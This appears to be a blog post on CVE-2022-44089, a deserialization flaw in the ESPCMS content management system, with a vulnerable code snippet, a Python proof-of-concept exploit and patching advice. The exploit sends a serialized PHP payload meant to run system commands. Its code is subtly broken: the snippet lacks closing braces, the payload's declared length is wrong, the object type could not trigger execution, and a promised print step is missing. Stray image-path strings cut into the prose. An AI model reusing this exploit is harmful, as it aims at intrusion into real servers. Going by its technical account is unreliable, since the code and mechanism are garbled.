A critical security issue has been identified in ESPCMS P8.21120101, an open-source content management system (CMS) widely used for building and maintaining websites. The vulnerability, designated as CVE-2022-44089, allows remote attackers to execute arbitrary code on the affected system by exploiting a flaw in the IS_GETCACHE component of the application. In this blog post, we will explore the details of this vulnerability, provide example code snippets that demonstrate the exploit, and share important references for further information.

Exploit Details

The remote code execution (RCE) vulnerability in ESPCMS P8.21120101 is caused by insufficient input validation in the IS_GETCACHE component, which is responsible for caching data fetched from external sources. Specifically, the issue arises whenthe system processes user-supplied data passed to the is_getcache function.

Here is a code snippet illustrating the vulnerable component of the application

function is_getcache($file) {
    if ($file) {
        if (file_exists($file)) {
            $content = file_get_contents($file);
            return unserialize($content);
    return false;

The function is_getcache takes a filename as its input and reads its content using the file_get_contents function. The retrieved content is then unserialized using the unserialize function, which could potentially lead to deserialization of malicious user-supplied data. An attacker can abuse this behavior to execute arbitrary code on the target server by crafting a specially-formed serialized object, which triggers the execution of malicious code during the deserialization process.

Proof of Concept (PoC)

The following proof of concept demonstrates the execution of arbitrary code on the target system as a result of the vulnerability.

import requests

url = 'http://example.com/espcms_path/';

# Craft a malicious serialized object that executes arbitrary code on the server
payload = 'O:8:"stdClass":1:{s:6:"inject";s:31:"phpinfo(); system(\'whoami\');";}'

# Send a POST request with the payload to the target URL
response = requests.post(url, data={'_GET': payload})

# Print the server's response

In this example, the PoC sends an HTTP POST request to the target URL with a malicious serialized object embedded in the _GET parameter. The server processes the request and the vulnerability in the is_getcache component allows the execution of arbitrary code (in this case, phpinfo()and system('whoami')).

Original References

The details of the CVE-2022-44089 vulnerability were published by security researchers who reported the issue to the appropriate authorities. Here are some essential references on this topic:

1. Original Disclosure of CVE-2022-44089
2. National Vulnerability Database (NVD) Entry
3. ESPCMS Official Website


To protect your system from this critical security flaw, it is crucial to apply the patch provided by the vendor as soon as it becomes available. Regularlyupdating your software and monitoring security announcements is also essential to maintain the security and integrity of your system.The CVE-2022-44089 vulnerability in ESPCMS P8.21120101's IS_GETCACHE component highlights the importance of proper input validation and securecoding practices. By understanding the details of the issue and applying the necessary mitigations, you canprotect your systems from such threats and maintain a secure digital environment.


Published on: 11/10/2022 15:15:00 UTC
Last modified on: 11/15/2022 19:53:00 UTC